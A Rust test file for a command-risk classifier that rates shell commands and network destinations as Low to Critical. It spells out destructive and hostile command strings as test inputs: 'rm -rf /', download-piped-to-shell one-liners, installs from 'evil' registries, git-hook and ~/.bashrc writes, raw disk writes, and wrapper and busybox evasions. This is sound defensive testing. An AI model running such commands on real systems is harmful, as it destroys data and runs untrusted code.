//! The built-in rules as values: each fires on its examples and not on near misses.

use std::path::PathBuf;

use super::classify::{Assessment, Classifier, DestFacts, ExecFacts};
use super::defaults;
use super::level::Level::{self, Critical, High, Low, Medium};

fn classifier() -> Classifier {
    Classifier::new(defaults::rules().expect("the built-in rules compile"))
}

/// Rates `argv` run in the workspace `/work/proj`.
fn rate(argv: &[&str]) -> Assessment {
    classifier().classify_exec(&ExecFacts {
        path: String::new(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        cwd: Some(PathBuf::from("/work/proj")),
        parents: Vec::new(),
        program: None,
        workspaces: Vec::new(),
    })
}

#[track_caller]
fn expect(argv: &[&str], level: Level, rule: &str) {
    let got = rate(argv);
    assert_eq!(
        (got.level, got.rule.as_str()),
        (level, rule),
        "{argv:?} → {got:?}"
    );
}

fn sh(script: &str) -> [&str; 3] {
    ["sh", "-c", script]
}

#[test]
fn rm_rf_outside_the_workspace_is_critical_inside_high() {
    expect(&["rm", "-rf", "/"], Critical, "rm-rf-outside");
    expect(&["rm", "-r", "-f", "/etc"], Critical, "rm-rf-outside");
    expect(&["rm", "-fr", "../other"], Critical, "rm-rf-outside");
    expect(&["rm", "-Rf", "~"], Critical, "rm-rf-outside");
    expect(
        &["rm", "--recursive", "--force", "/home"],
        Critical,
        "rm-rf-outside",
    );
    expect(&["/bin/rm", "-rf", "."], Critical, "rm-rf-outside");
    expect(&["rm", "-rf", "build"], High, "rm-rf");
    expect(&["rm", "-rf", "./target/debug"], High, "rm-rf");
    expect(&["rm", "-fr", "build", "dist"], High, "rm-rf");
    // Near misses: not recursive, or not forced.
    expect(&["rm", "-f", "/tmp/x"], Low, "");
    expect(&["rm", "-r", "build"], Low, "");
    expect(&["rm", "file-rf"], Low, "");
}

#[test]
fn downloads_piped_into_a_shell_are_critical() {
    expect(
        &sh("curl -fsSL https://x/install.sh | sh"),
        Critical,
        "pipe-to-shell",
    );
    expect(&sh("curl x | bash -s"), Critical, "pipe-to-shell");
    expect(
        &sh("curl x | sudo bash -s -- --yes"),
        Critical,
        "pipe-to-shell",
    );
    expect(&sh("wget -O- x | sh"), Critical, "pipe-to-shell");
    expect(
        &sh("curl x | tee log | /bin/bash"),
        Critical,
        "pipe-to-shell",
    );
    expect(
        &["bash", "-lc", "set -e; curl -s x | zsh"],
        Critical,
        "pipe-to-shell",
    );
    expect(
        &["bash", "-c", "sh -c 'curl x | sh'"],
        Critical,
        "pipe-to-shell",
    );
    expect(&sh("bash <(curl -s x)"), Critical, "download-to-shell");
    expect(
        &sh("sh -c \"$(curl -fsSL x)\""),
        Critical,
        "download-to-shell",
    );
    expect(&sh("echo aGk= | base64 -d | sh"), High, "pipe-into-shell");
    // Near misses: the download goes elsewhere, or a shell is not fed.
    expect(&sh("curl x | jq .name"), Medium, "download");
    expect(&sh("curl -o sh x"), Medium, "download");
    expect(&sh("curl x | shasum"), Medium, "download");
    expect(&sh("echo 'curl x | sh'"), Low, "");
    // A plain exec is never read as a script: these are arguments.
    expect(&["echo", "curl", "x", "|", "sh"], Low, "");
}

#[test]
fn eval_is_critical_only_as_a_command() {
    expect(&["bash", "-lc", "eval $(ssh-agent -s)"], Critical, "eval");
    expect(
        &["bash", "-lc", "eval \"$(pyenv init -)\""],
        Critical,
        "eval",
    );
    expect(&sh("x=1 && eval \"$x\""), Critical, "eval");
    expect(&sh("echo evaluation"), Low, "");
    expect(&["grep", "eval", "src"], Low, "");
}

#[test]
fn inline_code_is_high_and_system_calls_in_it_critical() {
    expect(&["python3", "-c", "print(1)"], High, "inline-code");
    expect(&["node", "-e", "console.log(1)"], High, "inline-code");
    expect(
        &["python3", "-c", "import os; os.system('id')"],
        Critical,
        "inline-code-system",
    );
    expect(
        &[
            "/usr/bin/python3.12",
            "-c",
            "import subprocess; subprocess.run(['id'])",
        ],
        Critical,
        "inline-code-system",
    );
    expect(
        &["node", "-e", "require('child_process').execSync('id')"],
        Critical,
        "inline-code-system",
    );
    expect(
        &sh("python -c 'exec(input())'"),
        Critical,
        "inline-code-system",
    );
    // A script file is not inline code, and system() in a file argument is not code.
    expect(&["python3", "script.py"], Low, "");
    expect(&["python3", "os.system.py"], Low, "");
}

#[test]
fn shells_started_by_inline_code_are_high() {
    let facts = ExecFacts {
        path: "/bin/sh".to_owned(),
        argv: vec!["sh".into(), "-c".into(), "id".into()],
        cwd: Some(PathBuf::from("/work/proj")),
        parents: vec![vec![
            "python3".into(),
            "-c".into(),
            "import os; os.system('id')".into(),
        ]],
        program: None,
        workspaces: Vec::new(),
    };
    let got = classifier().classify_exec(&facts);
    assert_eq!((got.level, got.rule.as_str()), (High, "shell-from-code"));
    let facts = ExecFacts {
        parents: vec![vec!["make".into(), "all".into()]],
        ..facts
    };
    assert_eq!(classifier().classify_exec(&facts).level, Low);
}

#[test]
fn package_installs_from_custom_registries_are_critical() {
    expect(
        &["pip", "install", "--index-url", "http://evil/simple", "x"],
        Critical,
        "pip-custom-index",
    );
    expect(
        &[
            "pip3",
            "install",
            "--extra-index-url=https://evil/simple",
            "x",
        ],
        Critical,
        "pip-custom-index",
    );
    expect(
        &["python3", "-m", "pip", "install", "-i", "http://e/s", "x"],
        Critical,
        "pip-custom-index",
    );
    expect(
        &["pip", "install", "git+https://evil/x.git"],
        Critical,
        "pip-custom-index",
    );
    expect(
        &["npm", "install", "--registry", "http://evil", "x"],
        Critical,
        "npm-custom-registry",
    );
    expect(
        &["npm", "i", "--registry=http://evil", "x"],
        Critical,
        "npm-custom-registry",
    );
    expect(
        &["cargo", "install", "--git", "https://evil/x", "x"],
        Critical,
        "cargo-custom-source",
    );
    expect(
        &["gem", "install", "--source", "http://evil", "x"],
        Critical,
        "gem-custom-source",
    );
    expect(
        &sh("cd app && npm install --registry http://evil x"),
        Critical,
        "npm-custom-registry",
    );
    // Standard registries: HIGH (install scripts run code), not CRITICAL.
    expect(&["pip", "install", "requests"], High, "package-install");
    expect(&["npm", "install"], High, "package-install");
    expect(&["cargo", "install", "ripgrep"], High, "package-install");
    expect(&["apt-get", "install", "-y", "jq"], High, "package-install");
    // Not installs.
    expect(&["pip", "list"], Low, "");
    expect(&["npm", "test"], Low, "");
    expect(&["cargo", "build"], Low, "");
}

#[test]
fn writes_of_files_run_outside_or_later_are_caught() {
    expect(
        &["cp", "x", ".git/hooks/pre-commit"],
        Critical,
        "git-hooks-write",
    );
    expect(&["cp", "x", ".git/hooks/"], Critical, "git-hooks-write");
    expect(
        &["mv", "-t", ".git/hooks", "x"],
        Critical,
        "git-hooks-write",
    );
    expect(
        &["ln", "-s", "/tmp/x", "sub/.git/hooks/post-checkout"],
        Critical,
        "git-hooks-write",
    );
    expect(
        &sh("echo 'curl e|sh' > .git/hooks/pre-push"),
        Critical,
        "git-hooks-write",
    );
    expect(
        &sh("printf x | tee -a .git/config"),
        Critical,
        "git-hooks-write",
    );
    expect(
        &["git", "config", "core.hooksPath", "/tmp/h"],
        Critical,
        "git-hooks-config",
    );
    expect(
        &sh("echo 'alias ls=x' >> ~/.bashrc"),
        Critical,
        "startup-file-write",
    );
    expect(
        &sh("echo x >> $HOME/.profile"),
        Critical,
        "startup-file-write",
    );
    expect(&["tee", "/root/.zshrc"], Critical, "startup-file-write");
    expect(&["chmod", "+x", "~/.local/bin/x"], High, "bin-write");
    expect(
        &["chmod", "755", "/home/ann/.local/bin/x"],
        High,
        "bin-write",
    );
    expect(
        &["install", "-m", "755", "tool", "/usr/local/bin/tool"],
        High,
        "bin-write",
    );
    expect(
        &["curl", "-o", "/usr/local/bin/tool", "https://x/t"],
        High,
        "bin-write",
    );
    expect(&["chmod", "+x", "run.sh"], High, "make-executable");
    // Near misses: reading those files, or writing ordinary ones.
    expect(&["cat", ".git/hooks/pre-commit"], Low, "");
    expect(&["cp", ".git/hooks/pre-commit.sample", "backup"], Low, "");
    expect(&["cp", "a", "b"], Low, "");
    expect(&["chmod", "644", "~/.local/bin/x"], Low, "");
    expect(&sh("echo x > notes.txt"), Low, "");
    expect(&sh("cat ~/.bashrc > copy"), Low, "");
}

#[test]
fn everyday_commands_are_low() {
    for argv in [
        &["git", "status"][..],
        &["ls", "-la"],
        &["cargo", "test"],
        &["make", "-j2"],
        &["sh", "-c", "cd src && make 2>&1 | tee build.log"],
        &["bash", "script.sh"],
    ] {
        let got = rate(argv);
        assert_eq!(got.level, Low, "{argv:?} → {got:?}");
        assert_eq!(got.reason, "no rule matched");
        assert_eq!(got.rule, "");
    }
}

#[test]
fn wrappers_do_not_hide_the_command() {
    expect(&["sudo", "rm", "-rf", "/"], Critical, "rm-rf-outside");
    expect(
        &["env", "A=1", "timeout", "5", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(&sh("FOO=1 nohup rm -rf /var"), Critical, "rm-rf-outside");
}

/// Rates the exec of the file at `path`, known by its identity to be `program`, run
/// with `argv`.
#[track_caller]
fn expect_file(path: &str, program: Option<&str>, argv: &[&str], level: Level, rule: &str) {
    let got = classifier().classify_exec(&ExecFacts {
        path: path.to_owned(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        cwd: Some(PathBuf::from("/work/proj")),
        parents: Vec::new(),
        program: program.map(str::to_owned),
        workspaces: Vec::new(),
    });
    assert_eq!(
        (got.level, got.rule.as_str()),
        (level, rule),
        "{path} as {program:?}: {argv:?} → {got:?}"
    );
}

#[test]
fn the_file_is_rated_whatever_name_it_runs_under() {
    let rm = Some("rm");
    expect_file("/tmp/x", rm, &["x", "-rf", "/"], Critical, "rm-rf-outside");
    expect_file("/tmp/x", rm, &["x", "-rf", "build"], High, "rm-rf");
    // Named like a wrapper, it is still rm: `rm -rf /`, not `env` running `/`.
    expect_file(
        "/tmp/env",
        rm,
        &["env", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect_file("/tmp/env", rm, &["env", "ls"], Low, "");
    // A shell's file runs its -c script whatever its name; so does a login shell.
    let bash = Some("bash");
    expect_file(
        "/tmp/x",
        bash,
        &["x", "-c", "rm -rf /"],
        Critical,
        "rm-rf-outside",
    );
    expect_file(
        "/bin/sh",
        None,
        &["x", "-c", "rm -rf /"],
        Critical,
        "rm-rf-outside",
    );
    expect(&["-sh", "-c", "rm -rf /"], Critical, "rm-rf-outside");
    expect_file("/tmp/x", bash, &["x", "script.sh"], Low, "");
    // A wrapper's file runs what follows it, whatever it was called; its identity is
    // not given to the command it runs.
    let env = Some("env");
    expect_file(
        "/tmp/x",
        env,
        &["x", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect_file(
        "/usr/bin/env",
        env,
        &["env", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect_file("/usr/bin/env", env, &["env", "ls", "-rf", "/"], Low, "");
    expect_file(
        "/usr/bin/sudo",
        Some("sudo"),
        &["sudo", "ls", "-rf", "/"],
        Low,
        "",
    );
    expect_file(
        "/usr/bin/sudo",
        Some("sudo"),
        &["sudo", "-rf", "/"],
        Low,
        "",
    );
}

#[test]
fn multi_call_binaries_run_the_tool_they_are_asked_for() {
    expect(&["busybox", "rm", "-rf", "/"], Critical, "rm-rf-outside");
    expect(&["toybox", "rm", "-rf", "/"], Critical, "rm-rf-outside");
    expect(
        &["/bin/busybox.static", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(&["busybox", "sudo", "rm", "-rf", "build"], High, "rm-rf");
    expect(&sh("busybox rm -rf /var"), Critical, "rm-rf-outside");
    expect(&sh("toybox rm -rf ~"), Critical, "rm-rf-outside");
    expect(
        &["busybox", "sh", "-c", "rm -rf /"],
        Critical,
        "rm-rf-outside",
    );
    expect(&sh("curl -s x | busybox sh"), Critical, "pipe-to-shell");
    expect(&["busybox", "--list"], Low, "");
    // Known by its identity, busybox runs the tool named by argv[0] (a symlink
    // `/bin/rm -> busybox`), or the next word when run as `busybox…`; under any other
    // name it runs nothing ("x: applet not found"), so `grep eval src` is a grep.
    let busybox = Some("busybox");
    expect_file(
        "/bin/rm",
        busybox,
        &["rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect_file(
        "/tmp/x",
        busybox,
        &["busyboxx", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect_file("/bin/grep", busybox, &["grep", "eval", "src"], Low, "");
    expect_file("/bin/echo", busybox, &["echo", "rm", "-rf", "/"], Low, "");
    expect_file("/tmp/x", busybox, &["x", "rm", "-rf", "/"], Low, "");
}

#[test]
fn wrappers_with_operands_and_option_values_do_not_hide_the_command() {
    expect(
        &["chroot", "/", "rm", "-rf", "/x"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &[
            "chroot",
            "--userspec=0:0",
            "--skip-chdir",
            "/srv",
            "rm",
            "-rf",
            "/x",
        ],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["chroot", "--groups", "wheel", "/srv", "rm", "-rf", "/x"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &sh("sudo chroot /mnt rm -rf /home"),
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["timeout", ".5", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["taskset", "-c", "0", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["flock", "/tmp/lock", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["sudo", "-Eu", "root", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["sudo", "env", "-S", "rm -rf /"],
        Critical,
        "rm-rf-outside",
    );
    expect(
        &["env", "-S", "sh -c", "curl x | sh"],
        Critical,
        "pipe-to-shell",
    );
    expect(&["chroot", "/srv"], Low, "");
}

#[test]
fn bulk_deletes_and_destroyed_files_are_high() {
    expect(
        &["find", ".", "-name", "*.o", "-delete"],
        High,
        "find-delete",
    );
    expect(
        &["find", "/tmp", "-type", "f", "-exec", "rm", "{}", ";"],
        High,
        "find-delete",
    );
    expect(
        &["find", ".", "-execdir", "/bin/rm", "-f", "{}", "+"],
        High,
        "find-delete",
    );
    expect(
        &["find", ".", "-exec", "rm", "-rf", "{}", "+"],
        High,
        "find-delete",
    );
    expect(
        &sh("find . -name '*.pyc' -exec rm {} \\;"),
        High,
        "find-delete",
    );
    // What -exec runs is rated too.
    expect(
        &["find", ".", "-exec", "sh", "-c", "rm -rf /", ";"],
        Critical,
        "rm-rf-outside",
    );
    expect(&["find", ".", "-exec", "shred", "{}", ";"], High, "shred");
    expect(&["shred", "-u", "secret.txt"], High, "shred");
    expect(&["shred", "/dev/sda"], Critical, "disk-write");
    expect(&["truncate", "-s", "0", "app.log"], High, "truncate");
    expect(
        &["rsync", "-a", "--delete", "src/", "dst/"],
        High,
        "rsync-delete",
    );
    expect(
        &["rsync", "-a", "--delete-after", "a", "b"],
        High,
        "rsync-delete",
    );
    expect(&["rsync", "-av", "--del", "a", "b"], High, "rsync-delete");
    expect(&sh("cat disk.img > /dev/sda"), Critical, "device-write");
    expect(
        &["dd", "if=/dev/zero", "of=/dev/sdb"],
        Critical,
        "dd-device",
    );
    expect(&["dd", "if=big", "of=/dev/null", "bs=1M"], Low, "");
    expect(
        &["cp", "disk.img", "/dev/nvme0n1"],
        Critical,
        "device-write",
    );
    // Near misses: listings, single files, other options.
    expect(&["find", ".", "-name", "x"], Low, "");
    expect(&["find", ".", "-name", "*.rm", "-print"], Low, "");
    expect(
        &["find", ".", "-exec", "grep", "-l", "rm", "{}", "+"],
        Low,
        "",
    );
    expect(&["rm", "-r", "build"], Low, "");
    expect(&["rsync", "-a", "src/", "dst/"], Low, "");
    expect(&["rsync", "-a", "--max-delete=5", "a", "b"], Low, "");
    expect(&sh("make > /dev/null 2>&1"), Low, "");
}

#[test]
fn discarding_uncommitted_git_work_is_high() {
    expect(&["git", "clean", "-fdx"], High, "git-clean");
    expect(&["git", "clean", "-xfd"], High, "git-clean");
    expect(&["git", "clean", "--force", "-d"], High, "git-clean");
    expect(
        &["git", "-C", "../other", "clean", "-fd"],
        High,
        "git-clean",
    );
    expect(
        &["sudo", "git", "--no-pager", "clean", "-ff"],
        High,
        "git-clean",
    );
    expect(
        &["git", "-c", "clean.requireForce=false", "clean", "-d"],
        High,
        "git-clean",
    );
    expect(&sh("cd sub && git clean -fd"), High, "git-clean");
    expect(&["git", "reset", "--hard"], High, "git-reset-hard");
    expect(
        &["git", "-C", "x", "reset", "--hard", "origin/main"],
        High,
        "git-reset-hard",
    );
    expect(&["git", "checkout", "-f", "main"], High, "git-discard");
    expect(
        &["git", "switch", "--discard-changes", "x"],
        High,
        "git-discard",
    );
    // Near misses: dry runs, other subcommands, the words elsewhere, safe resets.
    expect(&["git", "clean", "-n"], Low, "");
    expect(&["git", "clean", "-dn"], Low, "");
    expect(&["git", "-C", "clean", "status"], Low, "");
    expect(&["git", "log", "--grep", "clean", "-F"], Low, "");
    expect(&["git", "reset", "--soft", "HEAD~1"], Low, "");
    expect(&["git", "reset", "HEAD", "file"], Low, "");
    expect(&["git", "log", "--grep", "reset", "--hard"], Low, "");
    expect(&["git", "checkout", "main"], Low, "");
    expect(&["git", "checkout", "-b", "fix-f"], Low, "");
}

fn dest(host: &str, port: u16, allowed: bool, process: Option<&[&str]>) -> Assessment {
    classifier().classify_destination(&DestFacts {
        host: host.to_owned(),
        port,
        allowed_by_policy: allowed,
        process: process.map(|p| p.iter().map(|s| s.to_string()).collect()),
    })
}

#[test]
fn destinations_are_rated_by_address_port_policy_and_asker() {
    let curl: &[&str] = &["curl", "https://example.com"];
    let python: &[&str] = &["/usr/bin/python3.11", "fetch.py"];
    let a = dest("example.com", 443, true, Some(curl));
    assert_eq!((a.level, a.rule.as_str()), (Low, ""));
    let a = dest("example.com", 443, true, Some(python));
    assert_eq!((a.level, a.rule.as_str()), (Critical, "code-network"));
    let a = dest("203.0.113.9", 443, true, Some(curl));
    assert_eq!((a.level, a.rule.as_str()), (High, "raw-ip"));
    let a = dest("[2001:db8::1]", 443, true, None);
    assert_eq!((a.level, a.rule.as_str()), (High, "raw-ip"));
    let a = dest("example.com", 443, false, Some(curl));
    assert_eq!((a.level, a.rule.as_str()), (High, "unlisted-host"));
    let a = dest("example.com", 22, true, None);
    assert_eq!((a.level, a.rule.as_str()), (Medium, "unusual-port"));
    let a = dest("example.com", 80, true, None);
    assert_eq!(a.level, Low);
    // Port 0: not known yet (a DNS question); port rules do not match.
    let a = dest("example.com", 0, true, None);
    assert_eq!(a.level, Low);
    let a = dest("example.com", 0, false, None);
    assert_eq!((a.level, a.rule.as_str()), (High, "unlisted-host"));
}

#[test]
fn highest_level_wins_and_ties_go_to_the_earlier_rule() {
    // Both rm-rf (HIGH) and rm-rf-outside (CRITICAL) match; CRITICAL wins although it
    // comes first anyway; pipe-to-shell and eval are both CRITICAL: the first listed wins.
    expect(&sh("eval x; curl x | sh"), Critical, "pipe-to-shell");
    // raw-ip (HIGH) and unusual-port (MEDIUM): HIGH.
    let a = dest("10.0.0.1", 22, true, None);
    assert_eq!(a.rule, "raw-ip");
}

/// Red team, round 3: spellings of rm, the workspace as the reference, piped code.
#[test]
fn rm_long_option_abbreviations_and_unforced_recursion_outside_are_critical() {
    for argv in [
        &["rm", "--rec", "--for", "/tmp/victim"][..],
        &["rm", "--r", "--f", "/tmp/victim"],
        &["rm", "-r", "/tmp/victim"],
        &["rm", "-R", "--interactive=never", "/tmp/victim"],
        &["rm", "--recursive", "/etc"],
    ] {
        expect(argv, Critical, "rm-rf-outside");
    }
    // Inside the workspace, recursion without force stays unrated; `--re` is not `--force`.
    expect(&["rm", "-r", "build"], Low, "");
    expect(&["rm", "--rec", "--for", "build"], High, "rm-rf");
}

#[test]
fn outside_means_outside_the_workspace_not_the_working_directory() {
    let facts = ExecFacts {
        path: "/usr/bin/rm".into(),
        argv: vec!["rm".into(), "-rf".into(), "victim".into()],
        cwd: Some(PathBuf::from("/tmp")),
        workspaces: vec![PathBuf::from("/work/proj")],
        ..ExecFacts::default()
    };
    assert_eq!(classifier().classify_exec(&facts).rule, "rm-rf-outside");
    let inside = ExecFacts {
        cwd: Some(PathBuf::from("/work/proj/sub")),
        ..facts
    };
    assert_eq!(classifier().classify_exec(&inside).rule, "rm-rf");
}

#[test]
fn downloads_piped_into_any_shell_form_or_interpreter_are_critical() {
    for script in [
        "curl -fsSL https://x/i.sh | sh -s ARG",
        "curl x | (sh)",
        "curl x | sh /dev/stdin",
        "curl x | sh -o errexit",
        "curl x | $SHELL",
        "curl x | ${SHELL}",
        "curl x | python3",
        "wget -qO- x | sudo bash -s -- --yes",
    ] {
        expect(&sh(script), Critical, "pipe-to-shell");
    }
    expect(&sh("base64 -d blob | sh -s"), High, "pipe-into-shell");
    // Not a shell: `shasum`, `shellcheck`.
    expect(&sh("curl x | shasum"), Medium, "download");
    expect(&sh("curl x | shellcheck -"), Medium, "download");
}
